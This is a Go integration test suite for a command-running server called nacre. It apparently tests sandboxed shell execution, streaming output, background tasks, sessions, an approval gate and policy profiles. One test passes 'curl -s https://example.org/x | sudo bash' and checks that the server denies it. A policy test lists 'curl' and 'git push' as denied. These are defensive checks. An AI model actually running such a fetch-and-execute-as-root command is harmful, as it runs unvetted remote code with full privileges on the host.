package nacre

// The client against a running server, which the environment names; tests/integration/test_client_go.py starts it.

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"
)

var workspace = must("NACRE_TEST_WORKSPACE")

var asking = ShellRequest{Command: []string{"make", "--version"}, Profile: "workspace"}

func must(name string) string {
	value := os.Getenv(name)
	if value == "" {
		panic(name + " is not set")
	}
	return value
}

// patience is how long something may take that ought to happen.
func patience(t *testing.T) context.Context {
	seconds, err := strconv.Atoi(os.Getenv("NACRE_TEST_PATIENCE"))
	if err != nil {
		seconds = 60
	}
	ctx, cancel := context.WithTimeout(context.Background(), time.Duration(seconds)*time.Second)
	t.Cleanup(cancel)
	return ctx
}

// doors runs a test through the unix socket, and through TCP with a token.
func doors(t *testing.T, test func(t *testing.T, ctx context.Context, open func(Options) *Client)) {
	for name, door := range map[string]Options{
		"unix": {Address: "unix:" + must("NACRE_TEST_UNIX")},
		"tcp":  {Address: must("NACRE_TEST_URL"), Token: must("NACRE_TEST_TOKEN")},
	} {
		door := door
		t.Run(name, func(t *testing.T) {
			test(t, patience(t), func(options Options) *Client {
				options.Address, options.Token = door.Address, door.Token
				if options.Approver != nil && door.Token != "" {
					options.Token = must("NACRE_TEST_APPROVER")
				}
				client, err := New(options)
				if err != nil {
					t.Fatal(err)
				}
				return client
			})
		})
	}
}

func equal[T comparable](t *testing.T, got, want T) {
	t.Helper()
	if got != want {
		t.Fatalf("got %v, want %v", got, want)
	}
}

func okay(t *testing.T, err error) {
	t.Helper()
	if err != nil {
		t.Fatal(err)
	}
}

func contains(t *testing.T, text, part string) {
	t.Helper()
	if !strings.Contains(text, part) {
		t.Fatalf("%q is not in %q", part, text)
	}
}

func TestACommandRuns(t *testing.T) {
	doors(t, func(t *testing.T, ctx context.Context, open func(Options) *Client) {
		client := open(Options{})
		resp, err := client.Run(ctx, ShellRequest{Line: "echo out; echo err >&2; exit 3"})
		okay(t, err)
		equal(t, resp.Stdout+resp.Stderr, "out\nerr\n")
		equal(t, resp.ExitCode, 3)
		equal(t, deref(resp.Result.Sandbox.Tier), "strict")
		okay(t, os.MkdirAll(filepath.Join(workspace, "src"), 0o755))
		resp, err = client.Run(ctx, ShellRequest{Command: []string{"pwd"}, WorkingDir: "src", TimeoutSeconds: 10})
		okay(t, err)
		equal(t, resp.Stdout, workspace+"/src\n")
		resp, err = client.Run(ctx, ShellRequest{Line: "cat; echo $A", Stdin: "fed\n", Env: map[string]string{"A": "b"}, OutputMode: "merged"})
		okay(t, err)
		equal(t, resp.Stdout, "fed\nb\n")
		resp, err = client.Run(ctx, ShellRequest{Line: "sleep 600", TimeoutSeconds: 0.5})
		okay(t, err)
		equal(t, resp.TimedOut, true)
		equal(t, resp.ExitCode, 124)
	})
}

func TestARefusalCarriesReasonAndAdvice(t *testing.T) {
	doors(t, func(t *testing.T, ctx context.Context, open func(Options) *Client) {
		client := open(Options{Profile: "verify"})
		resp, err := client.Run(ctx, ShellRequest{Command: []string{"ls"}})
		refused := IsRefused(err)
		if refused == nil {
			t.Fatal(err)
		}
		equal(t, refused.Verdict+" "+refused.Rule, "nudge nudge:list")
		equal(t, strings.Join(refused.Recommended, " "), "file.list project.map")
		contains(t, refused.Error(), "file.list")
		equal(t, resp.ExitCode, 126)
		_, err = client.Run(ctx, ShellRequest{Command: []string{"ls"}, WorkingDir: "nowhere"})
		equal(t, IsRefused(err) != nil && IsRefused(err).Verdict == "", true)
		_, err = client.Run(ctx, ShellRequest{Command: []string{"ls"}, Force: true})
		okay(t, err)
	})
}

func TestOutputStreamsWhileTheCommandRuns(t *testing.T) {
	doors(t, func(t *testing.T, ctx context.Context, open func(Options) *Client) {
		gate := filepath.Join(workspace, "gate-"+filepath.Base(t.Name()))
		var seen []string
		resp, err := open(Options{}).Stream(ctx, ShellRequest{Line: "echo first; until [ -e " + gate + " ]; do sleep 0.02; done; echo second >&2"},
			func(text Text) error {
				seen = append(seen, text.Stream+":"+text.Text)
				if text.Text == "first\n" { // the command goes on only now
					return os.WriteFile(gate, nil, 0o644)
				}
				return nil
			})
		okay(t, err)
		equal(t, strings.Join(seen, ""), "stdout:first\nstderr:second\n")
		equal(t, resp.Success, true)
	})
}

func TestTheEndOfAContextEndsTheCommand(t *testing.T) {
	doors(t, func(t *testing.T, ctx context.Context, open func(Options) *Client) {
		client := open(Options{})
		stop := errors.New("enough")
		_, err := client.Stream(ctx, ShellRequest{Line: "echo begun; sleep 631"}, func(Text) error { return stop })
		equal(t, errors.Is(err, stop), true)
		gone(t, ctx, client, "sleep 631")
		inner, cancel := context.WithCancel(ctx)
		result := make(chan error, 1)
		go func() {
			_, err := client.Run(inner, ShellRequest{Line: "sleep 632"})
			result <- err
		}()
		for !runs(t, ctx, client, "sleep 632") {
			time.Sleep(20 * time.Millisecond)
		}
		cancel()
		equal(t, errors.Is(<-result, context.Canceled), true)
		gone(t, ctx, client, "sleep 632")
	})
}

func runs(t *testing.T, ctx context.Context, client *Client, command string) bool {
	t.Helper()
	tasks, err := client.Tasks(ctx, 100, true)
	okay(t, err)
	for _, task := range tasks {
		if strings.Contains(deref(task.Command), command) {
			return true
		}
	}
	return false
}

func gone(t *testing.T, ctx context.Context, client *Client, command string) {
	t.Helper()
	for runs(t, ctx, client, command) {
		time.Sleep(20 * time.Millisecond)
	}
}

func TestTasksAreListedReadFollowedAndStopped(t *testing.T) {
	doors(t, func(t *testing.T, ctx context.Context, open func(Options) *Client) {
		client := open(Options{})
		id, err := client.Start(ctx, ShellRequest{Line: "echo one; echo two; sleep 600", Description: "waits"})
		okay(t, err)
		task, err := client.Task(ctx, id)
		okay(t, err)
		equal(t, deref(task.Description), "waits")
		text, since := "", int64(0)
		for !strings.Contains(text, "two") {
			piece, err := client.Output(ctx, id, OutputQuery{Since: since, Wait: 10 * time.Second})
			okay(t, err)
			text, since = text+piece.Output, piece.Next
		}
		equal(t, text, "one\ntwo\n")
		piece, err := client.Output(ctx, id, OutputQuery{Grep: "tw"})
		okay(t, err)
		equal(t, piece.Output, "two\n")
		task, err = client.Follow(ctx, id, func(Text) error {
			_, err := client.Stop(ctx, id, true)
			return err
		})
		okay(t, err)
		equal(t, task.Running, false)
		id, err = client.Start(ctx, ShellRequest{Line: "read -r line; echo got $line", PTY: true})
		okay(t, err)
		_, err = client.Type(ctx, id, "words\n")
		okay(t, err)
		text = ""
		_, err = client.Follow(ctx, id, func(piece Text) error { text += piece.Text; return nil })
		okay(t, err)
		contains(t, text, "got words")
	})
}

func TestASessionKeepsDirectoryVariablesAndFiles(t *testing.T) {
	doors(t, func(t *testing.T, ctx context.Context, open func(Options) *Client) {
		client := open(Options{Session: "go"})
		_, err := client.Run(ctx, ShellRequest{Line: "mkdir -p here; cd here; export WORD=kept; echo text > /tmp/note"})
		okay(t, err)
		resp, err := client.Run(ctx, ShellRequest{Line: "pwd; echo $WORD; cat /tmp/note"})
		okay(t, err)
		equal(t, resp.Stdout, workspace+"/here\nkept\ntext\n")
		session, err := client.Session(ctx, "go")
		okay(t, err)
		equal(t, session.Files > 0, true)
		all, err := client.Sessions(ctx)
		okay(t, err)
		equal(t, len(all) > 0, true)
		_, err = client.EndSession(ctx, "go")
		okay(t, err)
		_, err = client.Session(ctx, "go")
		equal(t, err != nil, true)
	})
}

func TestTheApproverDecides(t *testing.T) {
	doors(t, func(t *testing.T, ctx context.Context, open func(Options) *Client) {
		asked := 0
		policy := &CommandPolicy{}
		yes := policy.Approver(func(_ context.Context, question Approval) (Answer, error) {
			asked++
			contains(t, question.String(), "'make' '--version'")
			return Answer{Answer: "session"}, nil
		})
		for i := 0; i < 3; i++ { // asked once, then it is known
			resp, err := open(Options{Approver: yes}).Run(ctx, asking)
			okay(t, err)
			contains(t, resp.Stdout, "GNU Make")
		}
		equal(t, asked, 1)
		no := func(context.Context, Approval) (Answer, error) {
			return Answer{Answer: "deny", Reason: "not on my watch"}, nil
		}
		_, err := open(Options{Approver: no}).Run(ctx, asking)
		contains(t, IsRefused(err).Reason, "not on my watch")
		gone := errors.New("the screen is gone")
		broken := func(context.Context, Approval) (Answer, error) { return Answer{}, gone }
		_, err = open(Options{Approver: broken}).Run(ctx, asking)
		equal(t, errors.Is(err, gone), true)
		_, err = open(Options{}).Run(ctx, asking)
		id := IsRefused(err).Approval
		boss := open(Options{Approver: no})
		open1, err := boss.Approvals(ctx, false)
		okay(t, err)
		equal(t, len(open1) > 0, true)
		_, err = boss.Answer(ctx, id, Answer{Answer: "once"})
		okay(t, err)
		_, err = open(Options{}).Run(ctx, asking)
		okay(t, err)
	})
}

func TestExplainShellHealthAndTools(t *testing.T) {
	doors(t, func(t *testing.T, ctx context.Context, open func(Options) *Client) {
		client := open(Options{})
		explanation, err := client.Explain(ctx, ShellRequest{Line: "curl -s https://example.org/x | sudo bash"})
		okay(t, err)
		equal(t, explanation.Verdict, "deny")
		shell, err := client.Shell(ctx, "pwd", workspace, 30)
		okay(t, err)
		equal(t, *shell, Shell{Success: true, Stdout: workspace + "\n"})
		health, err := client.Health(ctx)
		okay(t, err)
		equal(t, health.Status, "ok")
		box, err := client.Toolbox(ctx)
		okay(t, err)
		equal(t, box.Find("Bash") != nil && box.Find("nothing") == nil && box.Instructions != "", true)
		_, err = box.Call(ctx, "Bash", map[string]any{"command": "mkdir -p inside && cd inside"})
		okay(t, err)
		answer, err := box.Call(ctx, "Bash", map[string]any{"command": "pwd"})
		okay(t, err)
		contains(t, answer.Text, workspace+"/inside")
		equal(t, answer.Facts["exit_code"].(float64), 0)
		answer, err = box.Call(ctx, "safe_shell", map[string]any{"command": "git", "args": []string{"diff"}})
		okay(t, err)
		equal(t, answer.IsError, true)
		okay(t, box.Close(ctx))
	})
}

func TestMistakesAreErrorsWithStatusAndKind(t *testing.T) {
	doors(t, func(t *testing.T, ctx context.Context, open func(Options) *Client) {
		_, err := open(Options{}).Task(ctx, "bash-nothing")
		var api *APIError
		equal(t, errors.As(err, &api) && api.Status == 404 && api.Kind == "input", true)
		_, err = open(Options{Profile: "no-such"}).Run(ctx, ShellRequest{Line: "ls"})
		equal(t, errors.As(err, &api) && api.Status == 403 && api.Kind == "scope", true)
	})
	ctx := patience(t)
	var api *APIError
	client, err := New(Options{Address: must("NACRE_TEST_URL"), Token: "wrong"})
	okay(t, err)
	_, err = client.Run(ctx, ShellRequest{Line: "ls"})
	equal(t, errors.As(err, &api) && api.Status == 401, true)
	client, err = New(Options{Address: "unix:/nonexistent/nacre.sock"})
	okay(t, err)
	_, err = client.Health(ctx)
	equal(t, err != nil, true)
	for _, wrong := range []string{"https://x", "ftp://x", "x", "http://x/path"} {
		_, err = New(Options{Address: wrong})
		equal(t, err != nil, true)
	}
}

func TestGoroutinesShareAClient(t *testing.T) {
	doors(t, func(t *testing.T, ctx context.Context, open func(Options) *Client) {
		client := open(Options{})
		var wait sync.WaitGroup
		for i := 0; i < 30; i++ {
			wait.Add(1)
			go func(word string) {
				defer wait.Done()
				resp, err := client.Run(ctx, ShellRequest{Command: []string{"echo", word}})
				if err != nil || resp.Stdout != word+"\n" {
					t.Error(err, resp)
				}
			}(fmt.Sprint(i))
		}
		wait.Wait()
	})
}

func TestAPolicyBecomesAProfile(t *testing.T) {
	policy := &CommandPolicy{Allow: []string{"terraform plan"}, Deny: []string{"git push", "curl"}, Ask: []string{"git commit"}}
	file := filepath.Join(t.TempDir(), "team.yaml")
	text := policy.Profile("team", Limits{Timeout: 10 * time.Second, MaxTimeout: time.Minute, MaxBytes: 4096},
		Docker{Allow: true, Start: []string{"systemctl", "start", "docker"}})
	okay(t, os.WriteFile(file, text, 0o600))
	for line, want := range map[string]string{
		"terraform plan -out x": "allow", "terraform apply": "ask", "git push": "deny", "git status": "allow", "git commit -m x": "ask", "curl x": "deny",
	} {
		words := append([]string{"explain", "--json", "--policy", file, "--profile", "team", "--"}, strings.Fields(line)...)
		out, _ := exec.Command(must("NACRE_TEST_BINARY"), words...).Output()
		var explanation struct{ Verdict string }
		okay(t, json.Unmarshal(out, &explanation))
		if explanation.Verdict != want {
			t.Errorf("%s: %s, not %s\n%s", line, explanation.Verdict, want, text)
		}
	}
	out, err := exec.Command(must("NACRE_TEST_BINARY"), "policy", "show", "--policy", file, "--profile", "team").CombinedOutput()
	okay(t, err)
	for _, part := range []string{`timeout.default: "10s"`, `timeout.max: "60s"`, `output.limit: "4K"`, `docker.start: ["systemctl","start","docker"]`} {
		if !strings.Contains(string(out), part) {
			t.Errorf("%s is not in the profile:\n%s", part, out)
		}
	}
}
